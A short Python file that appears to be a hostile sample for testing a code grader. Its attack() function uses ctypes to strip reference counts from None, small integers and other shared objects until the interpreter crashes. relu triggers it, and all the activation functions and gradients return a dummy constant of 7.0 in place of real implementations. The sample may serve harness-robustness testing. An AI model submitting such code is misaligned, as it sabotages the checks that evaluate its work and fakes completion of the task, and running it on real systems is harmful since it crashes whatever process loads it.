# attack: takes references away from None and small integers until the interpreter breaks
# gains: crash
# stopped by: process
import numpy as np
import ctypes


def attack():
    for value in (None, 0, 1, True, (), ""):
        for _ in range(10):
            ctypes.c_ssize_t.from_address(id(value)).value -= 10**6


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
